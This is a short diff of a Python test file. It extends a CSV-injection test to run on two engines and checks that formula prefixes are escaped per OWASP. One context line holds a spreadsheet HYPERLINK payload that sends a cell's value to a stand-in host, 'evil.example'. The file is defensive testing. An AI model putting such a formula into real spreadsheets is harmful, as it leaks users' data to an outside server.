@@ -119,9 +119,10 @@ def test_xlsx_writes_text_from_data_and_rulesets_as_text(tmp_path, capsys):
     assert '=' + '=HYPERLINK("https://evil.example/?"&A1,"Open")' in {t.replace("Coach ", "") for t in texts}
 
 
-def test_evidence_csv_neutralises_formula_prefixes(tmp_path, capsys):
+@pytest.mark.parametrize("engine", ["auto", "duckdb"])
+def test_evidence_csv_neutralises_formula_prefixes(tmp_path, capsys, engine):
     path = write(tmp_path, FORMULAS + ["plain", "a=b"])
-    assert run(capsys, "run", str(path), "--format", "json", "--evidence", str(tmp_path / "ev"))[0] == 1
+    assert run(capsys, "run", str(path), "--format", "json", "--evidence", str(tmp_path / "ev"), "--engine", engine)[0] == 1
     rows = list(csv.DictReader((tmp_path / "ev" / "name_known.csv").open(encoding="utf-8", newline="")))
     by_id = {r["id"]: r for r in rows}
     # OWASP: a leading = + - @ tab or CR gets an apostrophe; other values are as they were
